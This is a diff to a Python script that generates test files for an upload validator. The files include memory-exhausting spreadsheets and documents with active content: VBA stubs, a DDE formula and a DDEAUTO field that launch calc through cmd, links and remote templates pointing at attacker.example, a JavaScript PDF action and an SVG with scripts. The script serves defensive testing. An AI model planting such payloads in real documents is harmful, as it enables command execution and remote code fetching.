@@ -34,6 +34,25 @@ CORPUS: dict[str, str] = {
     "polyglot.pdf": "starts as a PDF, carries HTML with a script, ends with a zip (a workbook) appended",
     "polyglot.xlsx": "the same polyglot bytes named .xlsx (zip readers find the appended workbook)",
     "script.svg": "an SVG image with an embedded script and event handler",
+    "far_cell.xlsx": "survey-like sheet with one more cell at XFD1048576: a reader sizes a 512 GB grid (2 KB file)",
+    "far_cell_within_limit.xlsx": "one more cell at KN150000: column 300 and row 150 000 each allowed, 45 M cells together",
+    "whole_sheet_dimension.xlsx": "a few cells under <dimension ref=\"A1:XFD1048576\">: openpyxl pads every row to it",
+}
+
+
+# Evidence files a unit may legitimately upload but whose readers must be warned (active content). They are
+# accepted, so they live apart from CORPUS (everything there must be refused), in active/.
+ACTIVE: dict[str, tuple[str, list[str]]] = {
+    "macro.docx": ("a Word document with a VBA project (word/vbaProject.bin)", ["macros"]),
+    "macro.xlsx": ("a workbook with a VBA project (xl/vbaProject.bin)", ["macros"]),
+    "dde_formula.xlsx": ("a workbook whose cell runs cmd|' /C calc'!A0 (DDE)", ["dde"]),
+    "dde_field.docx": ("a Word document with a DDEAUTO field", ["dde"]),
+    "external_link.xlsx": ("a workbook linked to an external workbook (xl/externalLinks)", ["external_links"]),
+    "remote_template.docx": ("a Word document whose template is fetched from a remote address", ["external_links"]),
+    "macro.doc": ("an old Word file (OLE) whose directory names a _VBA_PROJECT stream", ["macros"]),
+    "javascript.pdf": ("a PDF with an OpenAction running JavaScript", ["javascript"]),
+    "plain.docx": ("a plain Word document with a hyperlink, nothing active", []),
+    "plain.xlsx": ("a plain workbook with a SUM formula, nothing active", []),
 }
 
 
@@ -137,6 +156,16 @@ def formula_cells() -> bytes:
     return workbook(SHEET_HEAD + header + b"".join(rows) + SHEET_TAIL)
 
 
+def far_cell(ref: str) -> bytes:
+    header = [inline_cell(f"{column_letter(c)}1", v) for c, v in enumerate(["unit_code", "form_id", "Q1"])]
+    row = [inline_cell("A2", "SNV"), inline_cell("B2", "F1"), inline_cell("C2", "5")]
+    far_row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
+    return workbook(
+        SHEET_HEAD + b'<row r="1">' + b"".join(header) + b'</row><row r="2">' + b"".join(row) + b"</row>"
+        + f'<row r="{far_row}">'.encode() + inline_cell(ref, "x") + b"</row>" + SHEET_TAIL
+    )
+
+
 def huge_columns() -> bytes:
     cells = b"".join(inline_cell(f"{column_letter(c)}1", f"Q{c}") for c in range(16384))
     return workbook(SHEET_HEAD + b'<row r="1">' + cells + b"</row>" + SHEET_TAIL)
@@ -214,6 +243,95 @@ def polyglot() -> bytes:
     return pdf + small_workbook()
 
 
+DOCX_TYPES = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    b'<Default Extension="xml" ContentType="application/xml"/>'
+    b'<Override PartName="/word/document.xml" '
+    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+DOCX_ROOT_RELS = (
+    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+    b'Target="word/document.xml"/></Relationships>'
+)
+W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def docx(body: bytes, extra: dict[str, bytes] | None = None) -> bytes:
+    document = b'<?xml version="1.0" encoding="UTF-8"?><w:document ' + W + b"><w:body>" + body + b"</w:body></w:document>"
+    return zip_bytes({"[Content_Types].xml": DOCX_TYPES, "_rels/.rels": DOCX_ROOT_RELS, "word/document.xml": document,
+                      **(extra or {})})
+
+
+def paragraph(text: str) -> bytes:
+    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()
+
+
+EXTERNAL = ' TargetMode="External"'
+
+
+def rels(*relationships: tuple[str, str, str]) -> bytes:
+    items = "".join(
+        f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+        f'Target="{target}"{EXTERNAL if target.startswith("http") else ""}/>'
+        for rid, kind, target in relationships
+    )
+    return ('<?xml version="1.0" encoding="UTF-8"?>'
+            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>').encode()
+
+
+def workbook_with(sheet_xml: bytes, extra: dict[str, bytes]) -> bytes:
+    return zip_bytes({
+        "[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS, "xl/workbook.xml": WORKBOOK,
+        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS, "xl/worksheets/sheet1.xml": sheet_xml, **extra,
+    })
+
+
+def ole_with_vba() -> bytes:
+    """Enough of an OLE compound file for the type check (its magic) with a _VBA_PROJECT directory entry."""
+    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+    entry = "_VBA_PROJECT".encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64
+    return header + b"\x00" * 512 + entry + b"\x00" * 1024
+
+
+def build_active() -> dict[str, bytes]:
+    a1 = SHEET_HEAD + b'<row r="1">' + inline_cell("A1", "Báo cáo") + b"</row>"
+    files = {
+        "macro.docx": docx(paragraph("Kế hoạch"), {"word/vbaProject.bin": b"\xcc\x61" + b"\x00" * 200}),
+        "macro.xlsx": workbook_with(a1 + SHEET_TAIL, {"xl/vbaProject.bin": b"\xcc\x61" + b"\x00" * 200}),
+        "dde_formula.xlsx": workbook_with(
+            a1 + b'<row r="2">' + formula_cell("A2", "cmd|' /C calc'!A0") + b"</row>" + SHEET_TAIL, {}
+        ),
+        "dde_field.docx": docx(
+            b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe '
+            b'"/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        ),
+        "external_link.xlsx": workbook_with(
+            a1 + b'<row r="2">' + formula_cell("A2", "[1]Sheet1!A1") + b"</row>" + SHEET_TAIL,
+            {"xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+             "xl/externalLinks/_rels/externalLink1.xml.rels": rels(("rId1", "externalLinkPath", "http://attacker.example/a.xlsx"))},
+        ),
+        "remote_template.docx": docx(
+            paragraph("Mẫu"),
+            {"word/_rels/settings.xml.rels": rels(("rId1", "attachedTemplate", "http://attacker.example/t.dotm"))},
+        ),
+        "macro.doc": ole_with_vba(),
+        "javascript.pdf": (
+            b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
+            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
+            b"3 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+        ),
+        "plain.docx": docx(
+            paragraph("Xem https://cchc.example.gov.vn"),
+            {"word/_rels/document.xml.rels": rels(("rId5", "hyperlink", "https://cchc.example.gov.vn"))},
+        ),
+        "plain.xlsx": workbook_with(a1 + b'<row r="2">' + formula_cell("A2", "SUM(1,2)") + b"</row>" + SHEET_TAIL, {}),
+    }
+    assert set(files) == set(ACTIVE)
+    return files
+
+
 def build() -> dict[str, bytes]:
     rng = random.Random(42)
     exe = bytearray(b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 0x80))
@@ -235,6 +353,12 @@ def build() -> dict[str, bytes]:
         "exe_header.docx": bytes(exe),
         "polyglot.pdf": polyglot(),
         "polyglot.xlsx": polyglot(),
+        "far_cell.xlsx": far_cell("XFD1048576"),
+        "far_cell_within_limit.xlsx": far_cell("KN150000"),
+        "whole_sheet_dimension.xlsx": workbook(
+            SHEET_HEAD.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
+            + b'<row r="1">' + inline_cell("A1", "code") + inline_cell("B1", "name") + b"</row>" + SHEET_TAIL
+        ),
         "script.svg": (
             b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script>'
             b'<rect width="10" height="10"/></svg>'
@@ -251,6 +375,10 @@ def main() -> int:
             return 1
         (HERE / name).write_bytes(data)
         print(f"{name}: {len(data)} bytes")
+    (HERE / "active").mkdir(exist_ok=True)
+    for name, data in build_active().items():
+        (HERE / "active" / name).write_bytes(data)
+        print(f"active/{name}: {len(data)} bytes")
     return 0
 
 
